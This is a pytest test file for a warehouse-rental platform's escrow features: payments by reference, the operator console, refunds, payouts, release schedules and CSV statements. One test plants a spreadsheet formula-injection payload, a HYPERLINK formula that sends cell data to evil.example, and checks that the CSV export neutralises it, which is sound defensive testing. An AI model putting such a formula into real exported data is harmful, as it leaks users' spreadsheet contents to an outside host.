"""Escrow through the pages and the API: pay by reference, console, refunds, earnings."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime, timedelta

import pytest
from sqlalchemy import func, select

from tests.factories import ListingFactory, WarehouseFactory
from tests.helpers import api_token, booking_terms, goods, login
from warehouse_exchange.bookings.commands import BookingRequest, accept_booking, request_booking
from warehouse_exchange.bookings.rules import month_starts
from warehouse_exchange.escrow.models import BankReceipt, Refund
from warehouse_exchange.escrow.rules import payment_reference, release_schedule
from warehouse_exchange.extensions import db
from warehouse_exchange.ledger import services as ledger
from warehouse_exchange.ledger.services import Leg
from warehouse_exchange.money import Money

NOW = datetime.now(UTC)
TODAY = NOW.date()
START = TODAY + timedelta(days=5)


@pytest.fixture
def booking(owner, exporter):
    listing = ListingFactory(
        warehouse=WarehouseFactory(organization=owner.organization),
        price_minor=1000,
        available_from=TODAY,
        available_to=TODAY + timedelta(days=300),
    )
    request = BookingRequest(listing.id, 4, START, START + timedelta(days=69), goods())
    made = request_booking(exporter, request, booking_terms(), NOW, TODAY)
    return accept_booking(owner, made.id, NOW)


def receipt_form(booking, **changes) -> dict:
    data = {
        "reference": payment_reference(booking.id),
        "amount": f"{booking.total_minor / 100:.2f}",
        "currency": "EUR",
        "received_on": TODAY.isoformat(),
        "bank_reference": "INGB-2026-0001",
    }
    return {**data, **changes}


def receipts() -> int:
    return db.session.scalar(select(func.count()).select_from(BankReceipt))


def test_tenant_sees_how_to_pay_and_operator_records_the_transfer(
    client, booking, exporter, operator, owner
):
    login(client, exporter)
    page = client.get(f"/bookings/{booking.id}").get_data(as_text=True)
    assert payment_reference(booking.id) in page and "NL91 ABNA 0417 1643 00" in page
    assert "€440.00" in page  # 10.00 x 4 x 10 weeks + 8 % + 2 %
    client.post("/logout")

    login(client, operator)
    console = client.get(f"/operator/escrow?reference={payment_reference(booking.id)}")
    assert payment_reference(booking.id) in console.get_data(as_text=True)
    recorded = client.post("/operator/escrow", data=receipt_form(booking, amount="446.00"))
    assert recorded.status_code == 302
    after = client.get("/operator/escrow").get_data(as_text=True)
    assert f"€446.00 recorded for booking #{booking.id}, which is now confirmed." in after
    assert "Paid €6.00 more than the total" in after
    refund = db.session.scalar(select(Refund))
    sent = client.post(
        f"/operator/escrow/refunds/{refund.id}/sent", data={"bank_reference": "INGB-OUT-9"}
    )
    assert sent.status_code == 302
    assert "No refund is waiting to be sent." in client.get("/operator/escrow").get_data(
        as_text=True
    )
    client.post("/logout")

    login(client, owner)
    earnings = client.get("/earnings").get_data(as_text=True)
    assert "€400.00" in earnings and "in escrow" in earnings  # the rent, not yet released
    page = client.get(f"/bookings/{booking.id}").get_data(as_text=True)
    assert "Release schedule" in page and "€6.00" in page


@pytest.mark.parametrize(
    ("changes", "message"),
    [
        ({"reference": "WX000000000"}, "Not a payment reference"),
        ({"amount": "-3"}, "Must be more than zero."),
        ({"amount": "1.234"}, "at most 2 decimals"),
        ({"amount": "Infinity"}, "Must be a number."),
        ({"amount": "NaN"}, "Must be a number."),
        ({"currency": "USD"}, "Must be EUR."),
        ({"received_on": "2999-01-01"}, "Future."),
        ({"bank_reference": ""}, "This field is required."),
    ],
)
def test_bad_transfers_show_errors_beside_fields_and_record_nothing(
    client, booking, operator, changes, message
):
    login(client, operator)
    response = client.post("/operator/escrow", data=receipt_form(booking, **changes))
    assert response.status_code == 422
    assert message in response.get_data(as_text=True)
    assert receipts() == 0


def test_only_operators_see_the_console(client, booking, owner, exporter):
    for user in (owner, exporter):
        login(client, user)
        assert client.get("/operator/escrow").status_code == 403
        assert client.post("/operator/escrow", data=receipt_form(booking)).status_code == 403
        client.post("/logout")
    assert receipts() == 0


def test_api_pay_replay_refund_and_summary(client, booking, operator, exporter, other_owner):
    staff = api_token(client, operator)
    body = {
        "reference": payment_reference(booking.id),
        "amount": {"amount_minor": booking.total_minor + 100, "currency": "EUR"},
        "received_on": TODAY.isoformat(),
        "bank_reference": "API-1",
    }
    created = client.post("/api/v1/escrow/receipts", json=body, headers=staff)
    assert created.status_code == 201 and created.json["booking_state"] == "confirmed"
    replay = client.post("/api/v1/escrow/receipts", json=body, headers=staff)
    assert replay.status_code == 200 and receipts() == 1  # the same transfer: nothing changed
    assert replay.json["id"] == created.json["id"]
    wrong = {**body, "bank_reference": "API-2", "amount": {"amount_minor": 5, "currency": "GBP"}}
    refused = client.post("/api/v1/escrow/receipts", json=wrong, headers=staff)
    assert refused.status_code == 422 and "currency" in refused.json["error"]["fields"]
    tenant = api_token(client, exporter)
    assert client.post("/api/v1/escrow/receipts", json=body, headers=tenant).status_code == 403
    assert client.get("/api/v1/escrow/refunds", headers=tenant).status_code == 403
    (refund,) = client.get("/api/v1/escrow/refunds", headers=staff).json
    assert refund["amount"] == {"amount_minor": 100, "currency": "EUR"}
    sent = client.post(
        f"/api/v1/escrow/refunds/{refund['id']}/sent",
        json={"bank_reference": "OUT-1"},
        headers=staff,
    )
    assert sent.json["state"] == "sent"
    summary = client.get(f"/api/v1/bookings/{booking.id}/escrow", headers=tenant).json
    assert summary["paid"]["amount_minor"] == booking.total_minor + 100
    assert summary["in_escrow"]["amount_minor"] == booking.subtotal_minor
    assert summary["refunded"]["amount_minor"] == 100
    assert sum(i["amount"]["amount_minor"] for i in summary["instalments"]) == 4000 * 10
    stranger = api_token(client, other_owner)
    assert client.get(f"/api/v1/bookings/{booking.id}/escrow", headers=stranger).status_code == 404


def test_cancelling_a_paid_booking_owes_the_tenant_its_money(client, booking, owner, operator):
    from tests.helpers import pay_in_full

    pay_in_full(operator, booking)
    login(client, owner)
    client.post(f"/bookings/{booking.id}/cancel", data={"reason": "Roof repairs"})
    refund = db.session.scalar(select(Refund))
    assert refund.amount_minor == booking.total_minor  # the owner cancelled: fees go back too
    assert refund.reason == "Booking cancelled by the owner"
    assert date.today() <= START


def test_released_earnings_are_paid_out_and_every_movement_is_on_the_statement(
    client, booking, owner, operator, exporter
):
    from tests.helpers import pay_in_full
    from warehouse_exchange.bookings.jobs import advance_leases
    from warehouse_exchange.escrow.releases import run_due_releases

    pay_in_full(operator, booking)
    start_noon = datetime.combine(START, datetime.min.time(), UTC) + timedelta(hours=12)
    advance_leases(start_noon)
    assert run_due_releases(start_noon) == 1
    first = release_schedule(booking.subtotal_minor, booking.start_date, booking.end_date)[0]
    login(client, operator)
    console = client.get("/operator/escrow").get_data(as_text=True)
    assert owner.organization.name in console and "Mark paid out" in console
    staff = api_token(client, operator)
    payable = client.get("/api/v1/balances", headers=api_token(client, owner)).json
    released = next(b for b in payable if b["account"] == "owner_payable")["balance"]
    assert released["amount_minor"] == first.amount_minor
    too_much = {
        "organization_id": owner.organization_id,
        "amount": {**released, "amount_minor": released["amount_minor"] + 1},
        "bank_reference": "PAYOUT-0",
    }
    refused = client.post("/api/v1/escrow/payouts", json=too_much, headers=staff)
    assert refused.status_code == 409 and "has been released" in refused.json["error"]["message"]
    paid = client.post(
        "/operator/escrow/payouts",
        data={
            "organization_id": owner.organization_id,
            "currency": "EUR",
            "amount_minor": released["amount_minor"],
            "bank_reference": "PAYOUT-1",
        },
    )
    assert paid.status_code == 302
    console = client.get("/operator/escrow").get_data(as_text=True)
    assert "No owner is waiting for a payout." in console
    paid_out = Money(released["amount_minor"], "EUR").format()
    assert (
        f"Payout of {paid_out} to {owner.organization.name} recorded (bank transfer PAYOUT-1)."
        in console.replace("&amp;", "&")
    )
    again = {**too_much, "amount": released, "bank_reference": "PAYOUT-1"}
    assert client.post("/api/v1/escrow/payouts", json=again, headers=staff).status_code == 409
    owner_token = api_token(client, owner)
    assert client.post("/api/v1/escrow/payouts", json=again, headers=owner_token).status_code == 403
    client.post("/logout")

    login(client, owner)
    lines = client.get("/statement.csv").get_data(as_text=True).strip().splitlines()
    assert lines[0].startswith("time_utc,movement,booking,account")
    movements = [line.split(",")[1] for line in lines[1:]]
    assert movements == ["release", "payout", "payout"]  # payable out, paid-out in
    assert lines[-1].endswith(
        f"{released['amount_minor'] / 100:.2f},EUR,{released['amount_minor'] / 100:.2f}"
    )
    tenant_lines = client.get("/api/v1/statement", headers=api_token(client, exporter)).json
    assert [line["movement"] for line in tenant_lines] == ["payment", "fees", "release"]
    assert (
        tenant_lines[-1]["balance"]["amount_minor"]
        == booking.subtotal_minor - released["amount_minor"]
    )


def test_statement_text_a_spreadsheet_would_run_is_kept_as_text(client, booking, exporter):
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    ledger.post(
        "hostile-memo",
        "payment",
        [
            Leg(ledger.clearing("bank", "EUR"), -500),
            Leg(ledger.escrow(exporter.organization_id, "EUR"), 500, booking.id),
        ],
        booking_id=booking.id,
        memo=hostile,
    )
    login(client, exporter)
    response = client.get("/statement.csv")
    assert response.content_type == "text/csv; charset=utf-8"
    assert response.headers["Content-Disposition"] == "attachment; filename=statement.csv"
    (line,) = csv.DictReader(io.StringIO(response.get_data(as_text=True)))
    assert line["memo"] == f"'{hostile}"
    assert line["amount"] == "5.00"


def test_payouts_to_no_one_are_refused(client, operator):
    staff = api_token(client, operator)
    body = {
        "organization_id": 987654,
        "amount": {"amount_minor": 100, "currency": "EUR"},
        "bank_reference": "PAYOUT-X",
    }
    assert client.post("/api/v1/escrow/payouts", json=body, headers=staff).status_code == 404
    login(client, operator)
    huge = client.post(
        "/operator/escrow/payouts",
        data={
            "organization_id": "99999999999",
            "currency": "EUR",
            "amount_minor": "100",
            "bank_reference": "PAYOUT-Y",
        },
    )
    assert huge.status_code == 302


def test_after_a_part_payment_the_next_step_asks_for_what_is_left(
    client, booking, exporter, operator
):
    from warehouse_exchange.escrow.bank_receipts import ReceiptData, record_bank_receipt
    from warehouse_exchange.money import Money

    today = date.today()
    part = ReceiptData(payment_reference(booking.id), 10_000, "EUR", today, "PART-1")
    record_bank_receipt(operator, part, datetime.now(UTC), today)
    left = Money(booking.total_minor - 10_000, "EUR").format()
    login(client, exporter)
    for url in (f"/bookings/{booking.id}", "/bookings/mine"):
        page = client.get(url).get_data(as_text=True)
        assert f"Pay {left} into escrow" in page, url
        assert f"Pay {Money(booking.total_minor, 'EUR').format()} into" not in page, url


def test_earnings_list_what_was_released_before_what_is_to_come(client, booking, owner, operator):
    from tests.helpers import pay_in_full
    from warehouse_exchange.bookings.jobs import advance_leases
    from warehouse_exchange.escrow.releases import run_due_releases

    pay_in_full(operator, booking)
    start_noon = datetime.combine(START, datetime.min.time(), UTC) + timedelta(hours=12)
    advance_leases(start_noon)
    assert run_due_releases(start_noon) == 1
    first, second, *_ = release_schedule(
        booking.subtotal_minor, booking.start_date, booking.end_date
    )
    login(client, owner)
    page = client.get("/earnings").get_data(as_text=True)
    schedule = page[page.index('id="release-schedule"') :]
    assert schedule.index(">Released<") < schedule.index(">Upcoming<")
    assert schedule.index(str(first.due_on)) < schedule.index(">Upcoming<")
    assert schedule.index(">Upcoming<") < schedule.index(str(second.due_on))
    assert "the day after the lease ends" in page


def test_the_release_schedule_says_why_the_last_month_is_released_after_the_lease(
    client, booking, owner, operator
):
    from tests.helpers import pay_in_full

    pay_in_full(operator, booking)
    *_, last = release_schedule(booking.subtotal_minor, booking.start_date, booking.end_date)
    day_after = booking.end_date + timedelta(days=1)
    last_month_start = month_starts(booking.start_date, booking.end_date)[-1]
    assert last.due_on == day_after
    login(client, owner)
    page = " ".join(client.get(f"/bookings/{booking.id}").get_data(as_text=True).split())
    assert "Why these dates." in page
    assert (
        f"The last month's share ({last_month_start} to {booking.end_date}) is released on"
        f" {day_after}, the day after the lease ends" in page
    )
    assert f"no release falls on {last_month_start}" in page
    assert "The months of a lease count from its first day" in page
    assert "on the lease's first day" in page


def test_a_booking_settled_by_a_dispute_says_so_with_a_link_to_the_case(
    client, owner, exporter, operator
):
    from tests.dispute_support import FIRST_DAY, decision, open_on
    from tests.helpers import pay_in_full
    from tests.test_escrow import accepted_booking
    from warehouse_exchange.disputes.commands import decide_dispute, take_dispute
    from warehouse_exchange.disputes.settlement import frozen_minor

    booking = accepted_booking(owner, exporter)
    pay_in_full(operator, booking)
    dispute = open_on(booking, exporter, now=FIRST_DAY)  # before any month was released
    take_dispute(operator, dispute.id, FIRST_DAY)
    frozen = frozen_minor(booking)
    decide_dispute(operator, dispute.id, decision(frozen, 0), FIRST_DAY)

    login(client, exporter)
    page = client.get(f"/bookings/{booking.id}").get_data(as_text=True)
    assert "not paid through escrow" not in page
    assert (
        f'settled by the decision of <a href="/disputes/{dispute.id}#decision">dispute'
        f" #{dispute.id}</a> on {FIRST_DAY:%Y-%m-%d}" in page
    )
    summary = client.get(
        f"/api/v1/bookings/{booking.id}/escrow", headers=api_token(client, exporter)
    ).json
    assert summary["settled_by"]["dispute_id"] == dispute.id
    assert summary["paid"]["amount_minor"] == booking.total_minor
